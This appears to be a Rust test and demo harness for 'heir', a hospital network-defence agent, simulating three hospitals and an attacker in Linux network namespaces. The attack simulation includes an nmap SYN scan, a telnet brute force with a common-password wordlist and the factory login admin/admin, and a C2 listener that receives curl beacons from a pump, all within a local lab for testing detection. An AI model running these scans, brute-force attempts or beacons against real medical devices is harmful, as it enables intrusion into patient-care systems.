//! Three hospitals in a box: the whole of heir on one machine, the way a new user first meets
//! it (`cargo xtask demo`) and the way the end-to-end test checks it.
//!
//! Each hospital is a set of network namespaces: a gateway running `heir agent` with the
//! packet sensor on its uplink and on every device link, and one namespace per device
//! behind it: a PACS (dcmtk `storescp`), an infusion-pump gateway with a telnet login and
//! its factory password, an HL7 v2 MLLP interface engine and an ultrasound cart whose web
//! console only speaks TLS 1.0 (`openssl s_server`). The three gateways form a consortium
//! with `heir mesh init / invite / join`, exactly as sysadmins would. An attacker namespace
//! on the same "internet" bridge then sweeps hospitals A and C, brute-forces A's pump and
//! receives beacons from it, and finally turns to hospital B.
//!
//! Addresses: the internet is 203.0.113.0/24 (documentation range, never routed), the
//! attacker 203.0.113.66, gateway X 203.0.113.X0; hospital X's device N sits on
//! 10.X.N.10/24 behind 10.X.N.1. Every name carries this run's id, and [`World`]'s drop
//! removes every namespace, pinned map and process it created.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use serde_json::Value;

/// The attacker's address on the internet bridge.
pub const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
/// The port the attacker's command-and-control listener answers beacons on.
pub const C2_PORT: u16 = 8080;

/// The devices every hospital has, in link order (device N is 10.X.N.10).
pub const DEVICES: [Device; 4] = [
    Device {
        id: "pacs",
        name: "PACS archive",
        class: "pacs",
        port: 104,
    },
    Device {
        id: "pump",
        name: "Infusion pump gateway",
        class: "infusion_pump",
        port: 23,
    },
    Device {
        id: "hl7",
        name: "HL7 interface engine",
        class: "other",
        port: 2575,
    },
    Device {
        id: "us",
        name: "Ultrasound cart console",
        class: "imaging_modality",
        port: 443,
    },
];

#[derive(Debug, Clone, Copy)]
pub struct Device {
    pub id: &'static str,
    pub name: &'static str,
    pub class: &'static str,
    /// The service it exposes.
    pub port: u16,
}

/// The factory account of the pump gateway's telnet console.
pub const DEFAULT_LOGIN: (&str, &str) = ("admin", "admin");

/// Hospital letters and their consortium labels (opaque: never the hospital's name).
const HOSPITALS: [(char, &str); 3] = [('a', "alpha"), ('b', "bravo"), ('c', "charlie")];

#[derive(Debug, thiserror::Error)]
pub enum Error {
    #[error("not run: {0}")]
    NotRun(String),
    #[error("{what}: {detail}")]
    Step { what: String, detail: String },
    #[error("{what}: {source}")]
    Io {
        what: String,
        source: std::io::Error,
    },
}

fn step(what: impl Into<String>, detail: impl Into<String>) -> Error {
    Error::Step {
        what: what.into(),
        detail: detail.into(),
    }
}

fn io(what: impl Into<String>) -> impl FnOnce(std::io::Error) -> Error {
    let what = what.into();
    move |source| Error::Io { what, source }
}

pub type Result<T, E = Error> = std::result::Result<T, E>;

/// Programs the world drives; a missing one stops it before anything is created.
pub const TOOLS: &[&str] = &[
    "ip", "nsenter", "ss", "sysctl", "nmap", "curl", "storescp", "echoscu", "storescu", "dump2dcm",
    "openssl", "tmux",
];

pub fn check_tools() -> Result<()> {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        return Err(Error::NotRun(
            "the hospitals need root (network namespaces, XDP); run as root".into(),
        ));
    }
    let missing: Vec<&str> = TOOLS
        .iter()
        .copied()
        .filter(|t| {
            !Command::new("sh")
                .arg("-c")
                .arg(format!("command -v {t}"))
                .stdout(Stdio::null())
                .status()
                .is_ok_and(|s| s.success())
        })
        .collect();
    if missing.is_empty() {
        Ok(())
    } else {
        Err(Error::NotRun(format!(
            "{missing:?} not installed (`cargo xtask setup` installs them)"
        )))
    }
}

/// One hospital: its gateway and its devices.
pub struct Hospital {
    pub letter: char,
    pub label: &'static str,
    /// Hospital number X in the addresses.
    pub n: u8,
    pub gateway: String,
    /// Device namespaces, in [`DEVICES`] order.
    pub devices: Vec<String>,
    pub data: PathBuf,
    pub pins: PathBuf,
    agent: Option<Child>,
}

impl Hospital {
    pub fn uplink_addr(&self) -> Ipv4Addr {
        Ipv4Addr::new(203, 0, 113, self.n * 10)
    }

    /// Device `i` (index in [`DEVICES`]).
    pub fn device_addr(&self, i: usize) -> Ipv4Addr {
        Ipv4Addr::new(10, self.n, i as u8 + 1, 10)
    }

    pub fn alerts_file(&self) -> PathBuf {
        self.data.join("alerts.jsonl")
    }

    /// Every alert this hospital's agent wrote, as JSON.
    pub fn alerts(&self) -> Vec<Value> {
        std::fs::read_to_string(self.alerts_file())
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }
}

/// Narration, with the time since the world was built.
pub struct Log {
    start: Instant,
    pub quiet: bool,
}

impl Log {
    pub fn say(&self, what: impl AsRef<str>) {
        if !self.quiet {
            println!(
                "[{:>6.1}s] {}",
                self.start.elapsed().as_secs_f64(),
                what.as_ref()
            );
        }
    }

    pub fn elapsed(&self) -> Duration {
        self.start.elapsed()
    }
}

/// Everything the world created; dropping it removes all of it.
pub struct World {
    pub id: String,
    pub heir: PathBuf,
    pub dir: PathBuf,
    pub net: String,
    pub attacker: String,
    pub hospitals: Vec<Hospital>,
    pub log: Log,
    children: Vec<Child>,
    threads: Vec<JoinHandle<()>>,
    stop: Arc<AtomicBool>,
    pub tmux: Option<String>,
    namespaces: Vec<String>,
}

impl Drop for World {
    fn drop(&mut self) {
        self.teardown();
    }
}

fn ip(args: &[&str]) -> Result<()> {
    let out = Command::new("ip")
        .args(args)
        .output()
        .map_err(io("running ip"))?;
    if out.status.success() {
        Ok(())
    } else {
        Err(step(
            format!("ip {}", args.join(" ")),
            String::from_utf8_lossy(&out.stderr).trim().to_owned(),
        ))
    }
}

/// A command run inside namespace `ns`.
pub fn in_ns(ns: &str, program: &str) -> Command {
    let mut c = Command::new("ip");
    c.args(["netns", "exec", ns, program]);
    c
}

fn sysctl(ns: &str, kv: &str) -> Result<()> {
    let ok = in_ns(ns, "sysctl")
        .args(["-qw", kv])
        .status()
        .map_err(io("sysctl"))?
        .success();
    ok.then_some(())
        .ok_or_else(|| step(format!("sysctl {kv} in {ns}"), "failed"))
}

/// Runs a tool to completion, killing it if it is still running after `limit`: every tool
/// the world drives is bounded in time.
fn bounded(cmd: &mut Command, what: &str, limit: Duration) -> Result<std::process::Output> {
    use std::os::unix::process::CommandExt;
    // Its own process group, so the tool's own children (a brute forcer's workers) end
    // with it and release the pipes read below.
    let mut child = cmd
        .process_group(0)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(io(format!("starting {what}")))?;
    let group = child.id() as i32;
    // SAFETY: signalling the process group this function created.
    let kill_group = || unsafe {
        libc::kill(-group, libc::SIGKILL);
    };
    let drain = |r: Option<Box<dyn Read + Send>>| {
        std::thread::spawn(move || {
            let mut v = Vec::new();
            if let Some(mut r) = r {
                let _ = r.read_to_end(&mut v);
            }
            v
        })
    };
    let out = drain(
        child
            .stdout
            .take()
            .map(|r| Box::new(r) as Box<dyn Read + Send>),
    );
    let err = drain(
        child
            .stderr
            .take()
            .map(|r| Box::new(r) as Box<dyn Read + Send>),
    );
    let start = Instant::now();
    let status = loop {
        if let Some(st) = child
            .try_wait()
            .map_err(io(format!("waiting for {what}")))?
        {
            break st;
        }
        if start.elapsed() > limit {
            kill_group();
            let _ = child.wait();
            let _ = (out.join(), err.join());
            return Err(step(
                what,
                format!("still running after {limit:?}; stopped"),
            ));
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    kill_group();
    Ok(std::process::Output {
        status,
        stdout: out.join().unwrap_or_default(),
        stderr: err.join().unwrap_or_default(),
    })
}

/// Runs `f` on a thread that entered network namespace `ns`.
fn spawn_in(ns: &str, f: impl FnOnce() + Send + 'static) -> JoinHandle<()> {
    let path = format!("/var/run/netns/{ns}");
    std::thread::spawn(move || {
        let Ok(file) = std::fs::File::open(&path) else {
            eprintln!("{path}: cannot open");
            return;
        };
        use std::os::fd::AsRawFd;
        // SAFETY: a valid namespace fd; only this thread changes namespace.
        if unsafe { libc::setns(file.as_raw_fd(), libc::CLONE_NEWNET) } != 0 {
            eprintln!("setns {path}: {}", std::io::Error::last_os_error());
            return;
        }
        f()
    })
}

fn wait_until(what: &str, timeout: Duration, mut ok: impl FnMut() -> bool) -> Result<Duration> {
    let start = Instant::now();
    while start.elapsed() < timeout {
        if ok() {
            return Ok(start.elapsed());
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    Err(step(what, format!("not within {timeout:?}")))
}

impl World {
    /// Builds the namespaces, links, devices and gateways (agents started and meshed).
    pub fn build(heir: &Path, dir: &Path, quiet: bool) -> Result<World> {
        check_tools()?;
        let id = World::id();
        let mut w = World {
            net: format!("hd{id}-net"),
            attacker: format!("hd{id}-att"),
            id: id.clone(),
            heir: heir.to_owned(),
            dir: dir.to_owned(),
            hospitals: Vec::new(),
            log: Log {
                start: Instant::now(),
                quiet,
            },
            children: Vec::new(),
            threads: Vec::new(),
            stop: Arc::new(AtomicBool::new(false)),
            tmux: None,
            namespaces: Vec::new(),
        };
        for (i, (letter, label)) in HOSPITALS.iter().enumerate() {
            w.hospitals.push(Hospital {
                letter: *letter,
                label,
                n: i as u8 + 1,
                gateway: format!("hd{id}-{letter}gw"),
                devices: DEVICES
                    .iter()
                    .map(|d| format!("hd{id}-{letter}{}", d.id))
                    .collect(),
                data: dir.join(format!("hospital-{letter}")),
                pins: PathBuf::from(format!("/sys/fs/bpf/heir-demo-{id}-{letter}")),
                agent: None,
            });
        }
        w.network()?;
        w.log.say(format!(
            "built 3 hospitals × {} devices, their gateways and an attacker at {ATTACKER} (namespaces hd{id}-*)",
            DEVICES.len()
        ));
        w.services()?;
        w.log
            .say("devices up: dcmtk PACS, telnet pump console (factory password), HL7 MLLP, TLS 1.0 console");
        w.consortium()?;
        for h in 0..w.hospitals.len() {
            w.start_agent(h)?;
        }
        w.log.say("heir agents running on the three gateways");
        w.wait_for_mesh()?;
        Ok(w)
    }

    /// This process's world id: every name the world creates carries it.
    pub fn id() -> String {
        format!("{}", std::process::id() % 100_000)
    }

    fn add_ns(&mut self, ns: &str) -> Result<()> {
        ip(&["netns", "add", ns])?;
        self.namespaces.push(ns.to_owned());
        ip(&["-n", ns, "link", "set", "lo", "up"])
    }

    /// `a` in `ns_a` ↔ `b` in `ns_b`, both up.
    fn veth(ns_a: &str, a: &str, ns_b: &str, b: &str) -> Result<()> {
        ip(&[
            "-n", ns_a, "link", "add", a, "type", "veth", "peer", "name", b, "netns", ns_b,
        ])?;
        ip(&["-n", ns_a, "link", "set", a, "up"])?;
        ip(&["-n", ns_b, "link", "set", b, "up"])
    }

    fn network(&mut self) -> Result<()> {
        let (net, att) = (self.net.clone(), self.attacker.clone());
        self.add_ns(&net)?;
        ip(&["-n", &net, "link", "add", "br0", "type", "bridge"])?;
        ip(&["-n", &net, "link", "set", "br0", "up"])?;
        self.add_ns(&att)?;
        World::veth(&net, "p-att", &att, "eth0")?;
        ip(&["-n", &net, "link", "set", "p-att", "master", "br0"])?;
        ip(&[
            "-n",
            &att,
            "addr",
            "add",
            &format!("{ATTACKER}/24"),
            "dev",
            "eth0",
        ])?;
        for h in 0..self.hospitals.len() {
            let (gw, n, up) = {
                let h = &self.hospitals[h];
                (h.gateway.clone(), h.n, h.uplink_addr())
            };
            self.add_ns(&gw)?;
            let port = format!("p-{n}");
            World::veth(&net, &port, &gw, "up0")?;
            ip(&["-n", &net, "link", "set", &port, "master", "br0"])?;
            ip(&["-n", &gw, "addr", "add", &format!("{up}/24"), "dev", "up0"])?;
            sysctl(&gw, "net.ipv4.ip_forward=1")?;
            // The attacker reaches each hospital's device ranges through its gateway, as
            // through a hospital firewall that lets the world in.
            ip(&[
                "-n",
                &att,
                "route",
                "add",
                &format!("10.{n}.0.0/16"),
                "via",
                &up.to_string(),
            ])?;
            for (i, d) in DEVICES.iter().enumerate() {
                let ns = self.hospitals[h].devices[i].clone();
                self.add_ns(&ns)?;
                World::veth(&gw, d.id, &ns, "eth0")?;
                let dev = self.hospitals[h].device_addr(i);
                let o = dev.octets();
                let gw_addr = Ipv4Addr::new(o[0], o[1], o[2], 1);
                ip(&[
                    "-n",
                    &gw,
                    "addr",
                    "add",
                    &format!("{gw_addr}/24"),
                    "dev",
                    d.id,
                ])?;
                ip(&[
                    "-n",
                    &ns,
                    "addr",
                    "add",
                    &format!("{dev}/24"),
                    "dev",
                    "eth0",
                ])?;
                ip(&[
                    "-n",
                    &ns,
                    "route",
                    "add",
                    "default",
                    "via",
                    &gw_addr.to_string(),
                ])?;
            }
        }
        Ok(())
    }

    fn spawn(&mut self, what: &str, mut cmd: Command) -> Result<()> {
        let child = cmd
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .map_err(io(format!("starting {what}")))?;
        self.children.push(child);
        Ok(())
    }

    fn services(&mut self) -> Result<()> {
        let certs = self.dir.join("tls");
        std::fs::create_dir_all(&certs).map_err(io("creating the certificate dir"))?;
        let ok = Command::new("openssl")
            .args([
                "req",
                "-x509",
                "-newkey",
                "rsa:2048",
                "-nodes",
                "-keyout",
                "k.pem",
                "-out",
                "c.pem",
                "-subj",
                "/CN=ultrasound",
                "-days",
                "2",
            ])
            .current_dir(&certs)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .map_err(io("openssl req"))?
            .success();
        if !ok {
            return Err(step(
                "generating the console's certificate",
                "openssl req failed",
            ));
        }
        for h in 0..self.hospitals.len() {
            let (letter, devices) = {
                let h = &self.hospitals[h];
                (h.letter, h.devices.clone())
            };
            let aet = format!("PACS_{}", letter.to_ascii_uppercase());
            let store = self.dir.join(format!("pacs-{letter}"));
            std::fs::create_dir_all(&store).map_err(io("creating the PACS store"))?;
            let mut pacs = in_ns(&devices[0], "storescp");
            pacs.args([
                "--disable-host-lookup",
                "--aetitle",
                &aet,
                "--output-directory",
            ])
            .arg(&store)
            .arg("104");
            self.spawn("storescp", pacs)?;

            let stop = self.stop.clone();
            self.threads
                .push(spawn_in(&devices[1], move || telnet_console(stop)));
            let stop = self.stop.clone();
            self.threads
                .push(spawn_in(&devices[2], move || mllp_engine(stop)));

            let mut console = in_ns(&devices[3], "openssl");
            console
                .args([
                    "s_server",
                    "-accept",
                    "443",
                    "-cert",
                    "c.pem",
                    "-key",
                    "k.pem",
                    "-quiet",
                    "-tls1",
                    "-cipher",
                    "AES128-SHA:@SECLEVEL=0",
                ])
                .current_dir(&certs);
            self.spawn("openssl s_server", console)?;
        }
        // Everything listening before anyone connects.
        for h in &self.hospitals {
            for (i, d) in DEVICES.iter().enumerate() {
                let ns = h.devices[i].clone();
                wait_until(
                    &format!("{} of hospital {} listening", d.id, h.letter),
                    Duration::from_secs(15),
                    || listening(&ns, d.port),
                )?;
            }
        }
        Ok(())
    }

    /// Runs `heir` with `args`; its stdout, or the error naming the command.
    pub fn heir(&self, args: &[&str]) -> Result<String> {
        let out = Command::new(&self.heir)
            .args(args)
            .output()
            .map_err(io("running heir"))?;
        if out.status.success() {
            Ok(String::from_utf8_lossy(&out.stdout).into_owned())
        } else {
            Err(step(
                format!("heir {}", args.join(" ")),
                String::from_utf8_lossy(&out.stderr).trim().to_owned(),
            ))
        }
    }

    /// Writes each gateway's configuration and device registry, founds the consortium at A
    /// and admits B and C with invitations, as three sysadmins would.
    fn consortium(&mut self) -> Result<()> {
        for h in &self.hospitals {
            std::fs::create_dir_all(&h.data).map_err(io("creating a data dir"))?;
            // B is the hospital that lets the consortium's corroborated indicators block by
            // themselves; A and C only observe.
            let mesh_mode = if h.letter == 'b' { "auto" } else { "observe" };
            // A's gateway also runs the syscall probes for its PACS host. On one machine the
            // probes see every process, so they are scoped to the PACS's network namespace;
            // B's and C's gateways watch their links only.
            let sensor = if h.letter == 'a' {
                format!(
                    "syscalls = true\nnetns = [\"/var/run/netns/{pacs}\"]\nwatch = [\n  {{ prefix = \"/etc/shadow\", access = \"any\" }},\n  {{ prefix = \"{store}/\", access = \"write\" }},\n]",
                    pacs = h.devices[0],
                    store = self.dir.join(format!("pacs-{}", h.letter)).display(),
                )
            } else {
                "syscalls = false".to_owned()
            };
            let config = format!(
                r#"data_dir = "{data}"
metrics_listen = "127.0.0.1:9464"

[sensor]
{sensor}

[detect.beacon]
min_period_secs = 0.5

[respond]
mode = "observe"
mesh = "{mesh_mode}"
ttl_secs = 900

[mesh]
listen = ["/ip4/0.0.0.0/tcp/4717"]
share_min_severity = "medium"
share_min_confidence = 0.7
act_min_hospitals = 2
act_min_confidence = 0.9
"#,
                data = h.data.display()
            );
            std::fs::write(h.data.join("heir.toml"), config).map_err(io("writing heir.toml"))?;
            let mut registry = String::new();
            for (i, d) in DEVICES.iter().enumerate() {
                registry.push_str(&format!(
                    "[device.{letter}-{id}]\nname = \"{name}\"\nclass = \"{class}\"\nip = \"{ip}\"\nlocation = \"hospital {letter}\"\nprotected = {protected}\n\n",
                    letter = h.letter,
                    id = d.id,
                    name = d.name,
                    class = d.class,
                    ip = h.device_addr(i),
                    protected = d.class == "infusion_pump",
                ));
            }
            std::fs::write(h.data.join("devices.toml"), registry)
                .map_err(io("writing devices.toml"))?;
        }
        let data = |h: &Hospital| h.data.to_string_lossy().into_owned();
        let founder = &self.hospitals[0];
        self.heir(&[
            "mesh",
            "init",
            "--hospital",
            founder.label,
            "--data-dir",
            &data(founder),
        ])?;
        let status: Value = serde_json::from_str(&self.heir(&[
            "mesh",
            "status",
            "--json",
            "--data-dir",
            &data(founder),
        ])?)
        .map_err(|e| step("heir mesh status --json", e.to_string()))?;
        let peer = status["peer_id"].as_str().unwrap_or_default().to_owned();
        let bootstrap = format!("/ip4/{}/tcp/4717/p2p/{peer}", founder.uplink_addr());
        for h in &self.hospitals[1..] {
            let request = self.heir(&["mesh", "join-request", "--data-dir", &data(h)])?;
            let invite = self.heir(&[
                "mesh",
                "invite",
                request.trim(),
                "--hospital",
                h.label,
                "--bootstrap",
                &bootstrap,
                "--data-dir",
                &data(founder),
            ])?;
            self.heir(&["mesh", "join", invite.trim(), "--data-dir", &data(h)])?;
        }
        self.log.say(format!(
            "consortium founded by {} ({}); {} and {} joined by invitation",
            founder.label, peer, self.hospitals[1].label, self.hospitals[2].label
        ));
        Ok(())
    }

    fn start_agent(&mut self, i: usize) -> Result<()> {
        let h = &self.hospitals[i];
        let mut cmd = Command::new("nsenter");
        cmd.arg(format!("--net=/var/run/netns/{}", h.gateway))
            .arg(&self.heir)
            .arg("agent")
            .arg("--config")
            .arg(h.data.join("heir.toml"))
            .arg("--pin-dir")
            .arg(&h.pins)
            .arg("--alerts")
            .arg(h.alerts_file())
            .arg("--packet-events")
            .arg(h.data.join("packets.jsonl"))
            .args(["--iface", "up0"]);
        for d in DEVICES {
            cmd.args(["--iface", d.id]);
        }
        let log = std::fs::File::create(h.data.join("agent.log")).map_err(io("agent log"))?;
        let mut child = cmd
            .env("HEIR_LOG", "info")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(log)
            .spawn()
            .map_err(io("starting heir agent"))?;
        let mut first = String::new();
        BufReader::new(child.stdout.take().expect("piped"))
            .read_line(&mut first)
            .map_err(io("reading the agent's ready line"))?;
        if first.trim() != "ready" {
            let _ = child.kill();
            let _ = child.wait();
            let log = std::fs::read_to_string(h.data.join("agent.log")).unwrap_or_default();
            return Err(step(
                format!("heir agent at hospital {}", h.letter),
                format!("no ready line: {log}"),
            ));
        }
        self.hospitals[i].agent = Some(child);
        Ok(())
    }

    /// The peers hospital `i`'s agent is connected to.
    pub fn peers(&self, i: usize) -> usize {
        let h = &self.hospitals[i];
        self.heir(&[
            "mesh",
            "peers",
            "--json",
            "--data-dir",
            &h.data.to_string_lossy(),
        ])
        .ok()
        .and_then(|s| serde_json::from_str::<Vec<Value>>(&s).ok())
        .map_or(0, |v| v.len())
    }

    fn wait_for_mesh(&self) -> Result<()> {
        let took = wait_until(
            "every gateway meshed with both others",
            Duration::from_secs(60),
            || (0..self.hospitals.len()).all(|i| self.peers(i) >= 2),
        )?;
        // Gossipsub grafts peers into the topic mesh on its heartbeat: give it two.
        std::thread::sleep(Duration::from_secs(2));
        self.log.say(format!(
            "mesh formed: every gateway connected to the two others ({:.1}s)",
            took.as_secs_f64()
        ));
        Ok(())
    }

    /// Routine clinical traffic inside hospital `i`: C-ECHO and C-STORE from the interface
    /// engine to the PACS, a TLS 1.0 session to the ultrasound console, an HL7 ADT message to
    /// the engine. None of it is an attack; the cleartext and the old TLS are weaknesses.
    pub fn routine_traffic(&self, i: usize) -> Result<()> {
        let h = &self.hospitals[i];
        let aec = format!("PACS_{}", h.letter.to_ascii_uppercase());
        let pacs = h.device_addr(0).to_string();
        let echo = bounded(
            in_ns(&h.devices[2], "echoscu").args(["-aet", "HL7ENGINE", "-aec", &aec, &pacs, "104"]),
            "echoscu",
            Duration::from_secs(20),
        )?;
        if !echo.status.success() {
            return Err(step(
                "C-ECHO to the PACS",
                String::from_utf8_lossy(&echo.stderr).trim().to_owned(),
            ));
        }
        let image = self.dir.join("ct-slice.dcm");
        if !image.exists() {
            let dump = self.dir.join("ct-slice.dump");
            std::fs::write(
                &dump,
                "(0008,0016) UI =SecondaryCaptureImageStorage\n\
                 (0008,0018) UI [1.2.826.0.1.3680043.9.7133.1.1]\n\
                 (0008,0060) CS [OT]\n\
                 (0010,0010) PN [DEMO^ANONYMOUS]\n\
                 (0010,0020) LO [DEMO-0001]\n\
                 (0020,000d) UI [1.2.826.0.1.3680043.9.7133.1]\n\
                 (0020,000e) UI [1.2.826.0.1.3680043.9.7133.1.0]\n",
            )
            .map_err(io("writing the DICOM dump"))?;
            let ok = Command::new("dump2dcm")
                .arg(&dump)
                .arg(&image)
                .output()
                .map_err(io("dump2dcm"))?;
            if !ok.status.success() {
                return Err(step(
                    "making a DICOM object",
                    String::from_utf8_lossy(&ok.stderr).trim().to_owned(),
                ));
            }
        }
        let store = bounded(
            in_ns(&h.devices[2], "storescu")
                .args(["-aet", "HL7ENGINE", "-aec", &aec, &pacs, "104"])
                .arg(&image),
            "storescu",
            Duration::from_secs(20),
        )?;
        if !store.status.success() {
            return Err(step(
                "C-STORE to the PACS",
                String::from_utf8_lossy(&store.stderr).trim().to_owned(),
            ));
        }
        // The engine fetches a report from the ultrasound console, which only speaks TLS 1.0.
        let console = format!("{}:443", h.device_addr(3));
        let tls = bounded(
            in_ns(&h.devices[2], "openssl").args([
                "s_client",
                "-connect",
                &console,
                "-tls1",
                "-cipher",
                "AES128-SHA:@SECLEVEL=0",
            ]),
            "openssl s_client",
            Duration::from_secs(15),
        )?;
        if !String::from_utf8_lossy(&tls.stdout).contains("Protocol  : TLSv1") {
            return Err(step(
                "TLS 1.0 to the ultrasound console",
                String::from_utf8_lossy(&tls.stderr).trim().to_owned(),
            ));
        }
        let engine = SocketAddr::from((h.device_addr(2), 2575));
        let ack = std::sync::mpsc::channel();
        let tx = ack.0;
        spawn_in(&h.devices[0], move || {
            let _ = tx.send(mllp_send(engine));
        })
        .join()
        .map_err(|_| step("HL7 ADT to the engine", "sender panicked"))?;
        ack.1
            .recv()
            .map_err(|e| step("HL7 ADT to the engine", e.to_string()))?
            .map_err(io("HL7 ADT to the engine"))?;
        Ok(())
    }

    /// A bounded SYN scan of hospital `i`'s device range from the attacker.
    pub fn scan(&self, i: usize) -> Result<()> {
        let h = &self.hospitals[i];
        let targets: Vec<String> = (0..DEVICES.len())
            .map(|d| h.device_addr(d).to_string())
            .collect();
        let out = bounded(
            in_ns(&self.attacker, "nmap")
                .args([
                    "-sS",
                    "-Pn",
                    "-n",
                    "-T4",
                    "--max-retries",
                    "0",
                    "--host-timeout",
                    "30s",
                    "-p",
                    "1-1024,2575,2762,11112",
                ])
                .args(&targets),
            "nmap",
            Duration::from_secs(60),
        )?;
        if !out.status.success() {
            return Err(step(
                "nmap",
                String::from_utf8_lossy(&out.stderr).trim().to_owned(),
            ));
        }
        Ok(())
    }

    /// nmap's `telnet-brute` against hospital `i`'s pump console, with a bounded wordlist
    /// that ends with the factory password; whether it found the factory login.
    ///
    /// hydra's telnet module is known to stall now and then (against inetutils telnetd as
    /// against this console), which made the story fail on its 90 s bound; nmap's brute
    /// engine reconnects after each hang-up and ends within its own time limit. About twenty
    /// sessions: a brute force by the detector's measure.
    pub fn brute_force(&self, i: usize) -> Result<bool> {
        let h = &self.hospitals[i];
        let users = self.dir.join("users.txt");
        let words = self.dir.join("passwords.txt");
        // Thirty-one of the commonest passwords, then the factory one.
        let mut list: Vec<&str> = [
            "123456",
            "password",
            "12345678",
            "qwerty",
            "123456789",
            "12345",
            "1234",
            "111111",
            "1234567",
            "dragon",
            "123123",
            "baseball",
            "abc123",
            "football",
            "monkey",
            "letmein",
            "696969",
            "shadow",
            "master",
            "666666",
            "qwertyuiop",
            "123321",
            "mustang",
            "1234567890",
            "michael",
            "654321",
            "superman",
            "1qaz2wsx",
            "7777777",
            "hospital",
            "changeme",
        ]
        .to_vec();
        list.push(DEFAULT_LOGIN.1);
        std::fs::write(&users, format!("{}\n", DEFAULT_LOGIN.0))
            .map_err(io("writing the user list"))?;
        std::fs::write(&words, list.join("\n") + "\n").map_err(io("writing the wordlist"))?;
        // The list in order (not the user name as a password first), four workers, and a
        // stop at the first valid login.
        let args = format!(
            "userdb={},passdb={},brute.firstonly=true,brute.useraspass=false,brute.threads=4,telnet-brute.timeout=5s,unpwdb.timelimit=0",
            users.display(),
            words.display()
        );
        let out = bounded(
            in_ns(&self.attacker, "nmap")
                .args(["-n", "-Pn", "-sT", "-p", "23", "--script", "telnet-brute"])
                .args(["--script-args", &args, "--script-timeout", "60s"])
                .arg(h.device_addr(1).to_string())
                .current_dir(&self.dir),
            "nmap telnet-brute",
            Duration::from_secs(90),
        )?;
        let text = String::from_utf8_lossy(&out.stdout);
        if !out.status.success() {
            return Err(step(
                "nmap telnet-brute",
                format!("{text}{}", String::from_utf8_lossy(&out.stderr))
                    .trim()
                    .to_owned(),
            ));
        }
        let found = format!(
            "{}:{} - Valid credentials",
            DEFAULT_LOGIN.0, DEFAULT_LOGIN.1
        );
        Ok(text.contains(&found))
    }

    /// The attacker's command-and-control listener, answering every beacon.
    pub fn c2_listener(&mut self) {
        let stop = self.stop.clone();
        self.threads.push(spawn_in(&self.attacker.clone(), move || {
            let Ok(l) = TcpListener::bind(("0.0.0.0", C2_PORT)) else {
                eprintln!("C2 listener: cannot bind {C2_PORT}");
                return;
            };
            let _ = l.set_nonblocking(true);
            while !stop.load(Ordering::Relaxed) {
                match l.accept() {
                    Ok((mut s, _)) => {
                        let _ = s.set_nonblocking(false);
                        let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                        let mut buf = [0u8; 1024];
                        let _ = s.read(&mut buf);
                        let _ = s.write_all(
                            b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nsleep 1",
                        );
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        }));
    }

    /// The compromised pump of hospital `i` calling home `beats` times, about once a second
    /// with ±10 % jitter (a fixed-seed generator, so every run is the same).
    pub fn beacon(&self, i: usize, beats: u32) -> Result<u32> {
        let ns = self.hospitals[i].devices[1].clone();
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut answered = 0;
        for beat in 0..beats {
            let ok = bounded(
                in_ns(&ns, "curl")
                    .args(["-s", "-m", "2", "-o", "/dev/null"])
                    .arg(format!("http://{ATTACKER}:{C2_PORT}/tasks?beat={beat}")),
                "curl",
                Duration::from_secs(5),
            )?
            .status
            .success();
            answered += u32::from(ok);
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let jitter = (seed % 200) as i64 - 100;
            std::thread::sleep(Duration::from_millis((1000 + jitter) as u64));
        }
        Ok(answered)
    }

    /// Whether the attacker can open a TCP connection to hospital `i`'s device `d`.
    pub fn attacker_reaches(&self, i: usize, d: usize) -> bool {
        let addr = SocketAddr::from((self.hospitals[i].device_addr(d), DEVICES[d].port));
        let (tx, rx) = std::sync::mpsc::channel();
        let _ = spawn_in(&self.attacker, move || {
            let _ = tx.send(TcpStream::connect_timeout(&addr, Duration::from_secs(2)).is_ok());
        })
        .join();
        rx.recv().unwrap_or(false)
    }

    /// What hospital `i`'s Prometheus endpoint serves, scraped from inside its gateway.
    pub fn metrics(&self, i: usize) -> String {
        let (tx, rx) = std::sync::mpsc::channel();
        let _ = spawn_in(&self.hospitals[i].gateway, move || {
            let mut body = String::new();
            if let Ok(mut s) = TcpStream::connect_timeout(
                &SocketAddr::from(([127, 0, 0, 1], 9464)),
                Duration::from_secs(2),
            ) {
                let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                let _ = s.write_all(b"GET /metrics HTTP/1.0\r\nHost: localhost\r\n\r\n");
                let _ = s.read_to_string(&mut body);
            }
            let _ = tx.send(body);
        })
        .join();
        rx.recv().unwrap_or_default()
    }

    /// Kernel events hospital `i`'s syscall probes emitted, by kind (`heir_events_total`).
    pub fn kernel_events(&self, i: usize) -> std::collections::BTreeMap<String, u64> {
        self.metrics(i)
            .lines()
            .filter_map(|l| {
                let rest = l.strip_prefix("heir_events_total{kind=\"")?;
                let (kind, value) = rest.split_once("\"} ")?;
                Some((kind.to_owned(), value.trim().parse().ok()?))
            })
            .collect()
    }

    /// `heir blocks --json` at hospital `i`.
    pub fn blocks(&self, i: usize) -> Value {
        let pins = self.hospitals[i].pins.to_string_lossy().into_owned();
        self.heir(&["blocks", "--json", "--pin-dir", &pins])
            .ok()
            .and_then(|s| serde_json::from_str(&s).ok())
            .unwrap_or(Value::Null)
    }

